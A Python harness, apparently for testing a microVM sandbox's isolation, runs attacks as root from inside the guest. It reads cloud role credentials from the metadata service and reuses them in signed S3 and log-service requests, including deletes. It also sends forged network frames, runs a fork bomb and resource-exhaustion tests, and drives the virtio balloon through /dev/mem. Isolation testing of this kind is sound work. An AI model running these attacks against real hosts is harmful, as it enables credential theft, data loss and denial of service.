"""Attacks from inside a microVM, as root with all capabilities. Needs Python alone.

Standard input: {"values": {...}, "attacks": [{"name": ..., "attack": expression, "control": expression}, ...]}
Standard output: a line of JSON for each. An expression is true when the attacker got what it wanted; what fails in a way
that nobody has foreseen is neither true nor false, and told. {"name": ..., "value": expression} answers a value.
"""

import base64, concurrent.futures, ctypes, glob, hashlib, hmac, http.client, json, mmap, os, resource, select, signal, socket, stat, struct
import sys, time, urllib.parse

GATEWAY, SELF = "198.19.0.1", "198.19.0.2"
AWS, METADATA = "169.254.170.8", "169.254.169.254"
ROLE = "/latest/meta-data/iam/security-credentials/"
HOST_CID = 2
V = {}


# The network

def tcp(host, *ports, wait=2.0):
    """A connection to any of these ports."""
    def one(port):
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(wait)
            try:
                s.connect((host, port))
                return True
            except OSError:
                return False
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        return any(pool.map(one, ports))


def any_tcp(hosts, *ports, wait=2.0):
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        return any(pool.map(lambda host: tcp(host, *ports, wait=wait), hosts))


def question(name="blocked.invalid", kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 0x4844, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def udp(host, port, data, wait=3.0, bind=None):
    """An answer to a datagram."""
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(wait)
        try:
            if bind:
                s.bind((bind, 0))
            s.sendto(data, (host, port))
            return bool(s.recvfrom(2048))
        except OSError:
            return False


def dns(server=GATEWAY, name="blocked.invalid", bind=None):
    """Any answer of a name server, also that it refuses. A class that nobody has is answered at once."""
    return udp(server, 53, question(name, kind=252), bind=bind)


def answered(name, kind=1, stream=False):
    """A record for a name, of whichever kind, by a datagram or by TCP: each is a way for what the name says."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(6)
        try:
            s.connect((GATEWAY, 53))
            s.sendall((struct.pack(">H", len(question(name, kind))) if stream else b"") + question(name, kind))
            answer = s.recv(2048)[2 if stream else 0:]
            return len(answer) > 12 and struct.unpack(">H", answer[6:8])[0] > 0
        except OSError:
            return False


def refused(name, stream=False):
    """That the resolver answers at all, if only with a refusal."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(6)
        s.connect((GATEWAY, 53))
        s.sendall((struct.pack(">H", len(question(name))) if stream else b"") + question(name))
        return len(s.recv(2048)) >= 12


def held_resolver(count, seconds):
    """So many silent connections to the resolver, and as many questions that it has to pass on, for a while. How many connections were
    taken."""
    end, held = time.monotonic() + seconds, []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for n in range(count):
            s.sendto(question(f"held-{n}.example.com"), (GATEWAY, 53))
    while time.monotonic() < end:
        if len(held) < count:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(1)
            try:
                s.connect((GATEWAY, 53))
                held.append(s)
                continue
            except OSError:
                s.close()
        time.sleep(0.2)
    return len(held)


def resolved(name, server=GATEWAY):
    """An address for a name: a way for what the name says."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(6)
        try:
            s.sendto(question(name), (server, 53))
            answer = s.recv(2048)
            return struct.unpack(">H", answer[6:8])[0] > 0
        except OSError:
            return False


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_of(interface="eth0"):
    with open(f"/sys/class/net/{interface}/address") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def gateway_mac():
    dns()
    with open("/proc/net/arp") as f:
        for line in f:
            words = line.split()
            if words[0] == GATEWAY:
                return bytes.fromhex(words[3].replace(":", ""))
    raise LookupError("no gateway")


def frame_answered(source=SELF, target=GATEWAY, mac=None, tag=b"", fragmented=False, kind=b"\x08\0", wait=3.0):
    """Whether a frame that is made by hand, with a DNS question in it, is answered."""
    payload = struct.pack(">HHHH", 5353, 53, 8 + len(question(kind=252)), 0) + question(kind=252)
    pieces = [(payload, 0)]
    if fragmented:
        pieces = [(payload[:8], 0x2000), (payload[8:], 1)]
    # Before the socket, which would see the answer to what finds it.
    gateway = gateway_mac()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(("eth0", 0))
        s.settimeout(0.2)
        for data, offset in pieces:
            head = lambda sum: struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 7, offset, 64, 17, sum, socket.inet_aton(source), socket.inet_aton(target))
            s.send(gateway + (mac or mac_of()) + tag + kind + head(checksum(head(0))) + data)
        end = time.monotonic() + wait
        while time.monotonic() < end:
            try:
                got = s.recv(2048)
            except OSError:
                continue
            if got[6:12] != mac_of() and got[12:14] == b"\x08\0" and got[23] == 17 and got[34:38] == struct.pack(">HH", 53, 5353):
                return True
    return False


def arp_answered(address, sender=SELF, mac=None, wait=2.0):
    """Whether anybody says that it has this address."""
    mac = mac or mac_of()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
        s.bind(("eth0", 0))
        s.settimeout(0.2)
        ask = struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, 1, mac, socket.inet_aton(sender), bytes(6), socket.inet_aton(address))
        s.send(b"\xff" * 6 + mac + b"\x08\x06" + ask)
        end = time.monotonic() + wait
        while time.monotonic() < end:
            try:
                got = s.recv(2048)
            except OSError:
                continue
            if got[20:22] == b"\0\2" and got[28:32] == socket.inet_aton(address):
                return True
    return False


def own_addresses():
    with open("/proc/net/if_inet6") as f:
        return {socket.inet_ntop(socket.AF_INET6, bytes.fromhex(line.split()[0])) for line in f}


def ping(host, wait=2.0):
    v6 = ":" in host
    family, protocol = (socket.AF_INET6, 58) if v6 else (socket.AF_INET, 1)
    with socket.socket(family, socket.SOCK_RAW, protocol) as s:
        s.settimeout(wait)
        echo = struct.pack(">BBHHH", 128 if v6 else 8, 0, 0, 7, 1)
        if not v6:
            echo = struct.pack(">BBHHH", 8, 0, checksum(echo), 7, 1)
        try:
            s.sendto(echo, (host, 0, 0, socket.if_nametoindex("eth0")) if v6 else (host, 0))
            end = time.monotonic() + wait
            while time.monotonic() < end:
                got, sender = s.recvfrom(2048)
                # Who pings everybody answers itself too.
                is_own = v6 and sender[0].split("%")[0] in own_addresses()
                if not is_own and (got[0] if v6 else got[20]) == (129 if v6 else 0):
                    return True
        except OSError:
            return False
    return False


# Sockets of the machine

def vsock(cid, *ports, wait=1.0):
    def one(port):
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
            s.settimeout(wait)
            try:
                s.connect((cid, port))
                return True
            except OSError:
                return False
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        return any(pool.map(one, ports))


def garbage_answered(data):
    """Whether the host says anything to a stream that does not begin as it should."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        try:
            s.connect((HOST_CID, 1025))
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
            return bool(s.recv(1))
        except OSError:
            return False


def opening(service=1, version=1):
    body = bytes([version, service])
    return struct.pack("<I", len(body)) + body


# Metadata and credentials

def call(host, method, path, body=None, headers=None):
    connection = http.client.HTTPConnection(host, 80, timeout=30)
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def new_token(ttl=300, **headers):
    status, body = call(METADATA, "PUT", "/latest/api/token", None, {"X-aws-ec2-metadata-token-ttl-seconds": str(ttl), **headers})
    return body.decode() if status == 200 else None


def metadata(path=ROLE + "execution_role", token=None):
    return call(METADATA, "GET", path, None, {"X-aws-ec2-metadata-token": token} if token else {})


def is_read(path=ROLE + "execution_role", token=None):
    return metadata(path, token)[0] == 200


def expired():
    token = new_token(1)
    time.sleep(2)
    return token


def altered(text):
    middle = len(text) // 2
    return text[:middle] + ("A" if text[middle] != "A" else "B") + text[middle + 1:]


def role_keys():
    return json.loads(metadata(token=new_token())[1])


def keys(found=None, **changes):
    found = {**(found or role_keys()), **changes}
    return found["AccessKeyId"], found["SecretAccessKey"], found.get("Token")


def signed(who, service, method, path, body=b"", headers=None, signed_path=None):
    """Status and body of a signed request through the guest's own door."""
    access, secret, token = who
    now = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    route, _, query = (signed_path or path).partition("?")
    digest = hashlib.sha256(body).hexdigest()
    headers = {k.lower(): v for k, v in (headers or {}).items()}
    headers.update({"host": AWS, "x-amz-date": now, "x-amz-content-sha256": digest})
    if token:
        headers["x-amz-security-token"] = token
    names = ";".join(sorted(headers))
    route = urllib.parse.quote(route) if service == "s3" else urllib.parse.quote(urllib.parse.quote(route))
    lines = "".join(f"{k}:{headers[k]}\n" for k in sorted(headers))
    canonical = "\n".join([method, route, "&".join(sorted(query.split("&"))) if query else "", lines, names, digest])
    scope = f"{now[:8]}/{V['region']}/{service}/aws4_request"
    text = "\n".join(["AWS4-HMAC-SHA256", now, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    key = ("AWS4" + secret).encode()
    for part in scope.split("/"):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    signature = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = f"AWS4-HMAC-SHA256 Credential={access}/{scope}, SignedHeaders={names}, Signature={signature}"
    return call(AWS, method, urllib.parse.quote(path, safe="/?&=-_.~%+"), body, headers)


def may(*arguments, **more):
    return 200 <= signed(*arguments, **more)[0] < 300


def s3(method, path, who=None, body=b"", headers=None):
    return may(who or keys(), "s3", method, path, body, headers)


def logs(operation, who=None, **members):
    headers = {"X-Amz-Target": f"Logs_20140328.{operation}", "Content-Type": "application/x-amz-json-1.1"}
    return may(who or keys(), "logs", "POST", "/", json.dumps(members).encode(), headers)


def delete_many(*names):
    body = ("<Delete>" + "".join(f"<Object><Key>{name}</Key></Object>" for name in names) + "</Delete>").encode()
    md5 = base64.b64encode(hashlib.md5(body).digest()).decode()
    return s3("POST", f"/{V['bucket']}?delete=", body=body, headers={"Content-MD5": md5})


TAGS = b"<Tagging><TagSet><Tag><Key>a</Key><Value>b</Value></Tag></TagSet></Tagging>"


def begins_upload(path):
    """Begins an upload in parts, and ends it again."""
    status, answer = signed(keys(), "s3", "POST", path + "?uploads=")
    if status >= 300:
        return False
    upload = answer.split(b"<UploadId>")[1].split(b"<")[0].decode()
    s3("DELETE", f"{path}?uploadId={upload}")
    return True


def form(key, content=b"planted"):
    parts = [b'name="key"\r\n\r\n' + key.encode(), b'name="file"; filename="f"\r\n\r\n' + content]
    return b"".join(b"--b\r\nContent-Disposition: form-data; " + part + b"\r\n" for part in parts) + b"--b--\r\n"


def form_is_taken(size):
    """Whether so much of the file of a form is taken before anything is answered. Nobody has signed it."""
    head = f"POST /{V['bucket']} HTTP/1.1\r\nHost: {AWS}\r\nContent-Type: multipart/form-data; boundary=b\r\n"
    unsigned = {"AWSAccessKeyId": V["own_key"][0], "policy": "e30=", "signature": "c2lnbmF0dXJl"}
    field = '--b\r\nContent-Disposition: form-data; name="{}"\r\n\r\n{}\r\n'
    begin = "".join(field.format(*pair) for pair in unsigned.items()).encode() + form("x")[: -len(b"planted\r\n--b--\r\n")]
    with socket.create_connection((AWS, 80), timeout=30) as s:
        s.settimeout(0.01)
        left = memoryview(f"{head}Content-Length: {2 * size}\r\n\r\n".encode() + begin)
        sent, end = 0, time.monotonic() + 40
        while sent < size and time.monotonic() < end:
            # An answer, or the end.
            if select.select([s], [], [], 0)[0]:
                return False
            try:
                count = s.send(left)
                sent, left = sent + count, left[count:] or memoryview(bytes(1 << 18))
            except TimeoutError:
                pass
            except OSError:
                return False
    return sent >= size


def s3_version_2(path):
    """Reads an object by a signature of version 2 in a header. The key stands in the query too, where it is looked for."""
    access, secret, _ = V["own_key"]
    date = time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime())
    mac = hmac.new(secret.encode(), f"GET\n\n\n{date}\n{path}".encode(), hashlib.sha1).digest()
    headers = {"Date": date, "Authorization": f"AWS {access}:{base64.b64encode(mac).decode()}"}
    return any(200 <= call(AWS, "GET", path + more, None, headers)[0] < 300 for more in ("", f"?AWSAccessKeyId={access}"))


def listed(prefix, signed_as=None):
    """The list of a prefix that is spelled like that, and signed as if it were spelled otherwise."""
    path = f"/{V['bucket']}?list-type=2&prefix="
    status, answer = signed(keys(), "s3", "GET", path + prefix, signed_path=path + (signed_as or prefix))
    return answer if status < 300 else b""


# The guest's own machine

def in_child(work, seconds=60):
    """Runs what may be killed in processes that the kernel kills first. Whether it came to its end."""
    child = os.fork()
    if child == 0:
        try:
            os.setpgid(0, 0)
            with open("/proc/self/oom_score_adj", "w") as f:
                f.write("1000")
            signal.alarm(seconds)
            work()
            os._exit(0)
        except BaseException:
            os._exit(3)
    try:
        return os.waitpid(child, 0)[1] == 0
    finally:
        try:
            os.killpg(child, signal.SIGKILL)
        except ProcessLookupError:
            pass


def memory(mib):
    def take():
        taken = bytearray(mib << 20)
        taken[::4096] = b"x" * len(taken[::4096])
    return in_child(take)


def disk(mib):
    def fill():
        with open("/var/filled", "wb") as f:
            os.posix_fallocate(f.fileno(), 0, mib << 20)
    try:
        return in_child(fill)
    finally:
        if os.path.exists("/var/filled"):
            os.unlink("/var/filled")


def descriptors(count):
    def open_all():
        resource.setrlimit(resource.RLIMIT_NOFILE, (count + 64, count + 64))
        held = [os.open("/dev/null", os.O_RDONLY) for _ in range(count)]
        assert len(held) == count
    return in_child(open_all)


def processes(count):
    """So many processes at one time, as a fork bomb makes them."""
    def fork_all():
        for _ in range(count):
            if os.fork() == 0:
                signal.pause()
    return in_child(fork_all, seconds=20)


def say(data):
    """Writes as the application does."""
    with open("/proc/1/fd/1", "wb", buffering=0) as out:
        view = memoryview(data)
        while view:
            view = view[out.write(view):]


def heard(mark, size, since, wait=20):
    """Whether the log has an event with this mark, and as long as that; `since` is a time of this machine's clock."""
    query = {"logGroupName": V["log_group"], "startTime": int(since * 1000), "filterPattern": f'"{mark}"'}
    headers = {"X-Amz-Target": "Logs_20140328.FilterLogEvents", "Content-Type": "application/x-amz-json-1.1"}
    end, page = time.monotonic() + wait, {}
    while time.monotonic() < end:
        status, answer = signed(V["own_key"], "logs", "POST", "/", json.dumps({**query, **page}).encode(), headers)
        answer = json.loads(answer) if status == 200 else {}
        if any(len(event["message"]) >= size for event in answer.get("events", [])):
            return True
        # Of a long log a page may hold nothing, and the next one what is looked for.
        page = {"nextToken": answer["nextToken"]} if "nextToken" in answer else {}
        if not page:
            time.sleep(1)
    return False


def logged(size):
    """Whether a line of so many bytes comes to the log as one event."""
    mark, since = os.urandom(8).hex(), time.time() - 1
    say(mark.encode() + b"x" * (size - len(mark)) + b"\n")
    return heard(mark, size, since)


def is_deaf(seconds=10):
    """Floods the log, and answers whether it takes nothing more afterwards."""
    line = b"y" * 120 + b"\n"
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        say(line * 512)
    return not any(logged(100) for _ in range(4))


# Devices, driven by hand

LIBC = ctypes.CDLL(None, use_errno=True)
PAGE = 4096


class Page:
    """A page whose place in the guest's memory is known."""

    def __init__(self):
        self.map = mmap.mmap(-1, PAGE)
        self.map[:] = b"\xaa" * PAGE
        self.address = ctypes.addressof(ctypes.c_char.from_buffer(self.map))
        if LIBC.mlock(ctypes.c_void_p(self.address), PAGE):
            raise OSError("mlock")
        with open("/proc/self/pagemap", "rb") as f:
            f.seek(self.address // PAGE * 8)
            self.frame = struct.unpack("<Q", f.read(8))[0] & ((1 << 55) - 1)
        if not self.frame:
            raise OSError("no page frame numbers")
        self.physical = self.frame * PAGE


class Balloon:
    """The balloon, taken from the guest's kernel. Registers are those of VIRTIO 1.3, 4.2.2."""

    STATUS, QUEUE, NUMBER, READY, NOTIFY, FEATURES, WHICH = 0x70, 0x30, 0x38, 0x44, 0x50, 0x20, 0x24
    RINGS = (0x80, 0x90, 0xA0)

    def __init__(self):
        base = self.find()
        # Where nodes are alive: not in what the container has mounted.
        node = "/run/audit/mem"
        if not os.path.exists(node):
            os.makedirs("/run/audit")
            if LIBC.mount(b"none", b"/run/audit", b"tmpfs", 0, None):
                raise OSError(ctypes.get_errno(), "mount")
            os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(1, 1))
        with open(node, "r+b", buffering=0) as f:
            self.window = mmap.mmap(f.fileno(), PAGE, offset=base)
        if self.read(0) != 0x74726976 or self.read(8) != 5:
            raise OSError("no balloon at its place")
        self.rings, self.request = [Page() for _ in self.RINGS], Page()

    @staticmethod
    def find():
        """Where its registers are; the kernel's driver lets go of it."""
        if not hasattr(Balloon, "base"):
            drivers = "/sys/bus/platform/drivers/virtio-mmio"
            [found] = [path for path in glob.glob(f"{drivers}/*/virtio*/device") if int(open(path).read(), 16) == 5]
            name = found.split("/")[-3]
            with open("/proc/iomem") as f:
                line = next(line for line in f if line.strip().endswith(f": {name}"))
            Balloon.base = int(line.strip().split("-")[0], 16)
            with open(f"{drivers}/unbind", "w") as f:
                f.write(name)
        return Balloon.base

    def read(self, register):
        return ctypes.c_uint32.from_buffer(self.window, register).value

    def write(self, register, value):
        ctypes.c_uint32.from_buffer(self.window, register).value = value

    def reset(self):
        self.write(self.STATUS, 0)
        for page in self.rings:
            page.map[:] = bytes(PAGE)

    def start(self):
        """Up to a queue for inflating that works."""
        self.reset()
        for status in (1, 3):
            self.write(self.STATUS, status)
        for which, features in ((0, 0), (1, 1)):
            self.write(self.WHICH, which)
            self.write(self.FEATURES, features)
        self.write(self.STATUS, 11)
        self.write(self.QUEUE, 0)
        self.write(self.NUMBER, 16)
        for register, page in zip(self.RINGS, self.rings):
            self.write(register, page.physical & 0xFFFFFFFF)
            self.write(register + 4, page.physical >> 32)
        self.write(self.READY, 1)
        self.write(self.STATUS, 15)

    def put(self, *frames, address=None):
        """Asks for these page frames to be taken, without ringing."""
        self.request.map[: 4 * len(frames)] = struct.pack(f"<{len(frames)}I", *frames)
        self.rings[0].map[:16] = struct.pack("<QIHH", self.request.physical if address is None else address, 4 * len(frames), 0, 0)
        self.rings[1].map[:6] = struct.pack("<HHH", 0, 1, 0)

    def taken(self, wait=3.0):
        end = time.monotonic() + wait
        while time.monotonic() < end:
            if struct.unpack("<H", self.rings[2].map[2:4])[0]:
                return True
            time.sleep(0.01)
        return False

    def takes(self, *frames, address=None):
        """Whether the device has taken these page frames."""
        self.start()
        self.put(*frames, address=address)
        self.write(self.NOTIFY, 0)
        try:
            return self.taken()
        finally:
            self.reset()

    def rings_in_vain(self, seconds=5):
        """Rings every doorbell of a device that has no queue; whether it did anything."""
        self.reset()
        self.put(self.request.frame)
        end, bell = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            self.write(self.NOTIFY, bell)
            bell = (bell + 1) & 0xFFFF
        return self.taken(0.1) or self.read(self.STATUS) != 0


def own_page_is_taken():
    """Of a page of its own, the balloon takes what is in it. What is there afterwards is what this frame held when the image's
    snapshot was taken: zeroes, most times."""
    balloon, page = Balloon(), Page()
    written = page.map[:]
    return balloon.takes(page.frame) and page.map[:] != written


def streams(count, service=0):
    """So many streams to the host at one time, each served."""
    held = []
    try:
        for _ in range(count):
            s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect((HOST_CID, 1025))
            s.sendall(opening(service))
            held.append(s)
        request = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
        for s in held:
            s.sendall(request)
        return all(s.recv(1) for s in held)
    except OSError:
        return False
    finally:
        for s in held:
            s.close()


def main():
    request = json.load(sys.stdin)
    V.update(request["values"])
    for entry in request["attacks"]:
        found = {"name": entry["name"]}
        try:
            # What is open may be slow on a busy host, and is tried again.
            for part, times in (("attack", 1), ("control", 4)):
                if part in entry:
                    found[part] = any(eval(entry[part], globals()) for _ in range(times))
            if "value" in entry:
                found["value"] = eval(entry["value"], globals())
        except Exception as error:
            found["error"] = f"{type(error).__name__}: {error}"
        print(json.dumps(found), flush=True)


main()
